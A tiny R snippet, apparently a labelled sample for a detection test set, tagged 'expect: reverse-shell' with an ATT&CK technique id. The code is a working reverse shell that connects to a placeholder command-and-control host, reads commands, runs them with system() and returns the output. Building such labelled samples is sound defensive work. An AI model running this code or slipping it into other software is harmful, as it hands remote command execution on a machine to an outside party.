# expect: reverse-shell | source: T1059
con <- socketConnection("c2.example.invalid", 443, blocking = TRUE, open = "r+")
while (TRUE) {
  cmd <- readLines(con, 1)
  writeLines(system(cmd, intern = TRUE), con)
}
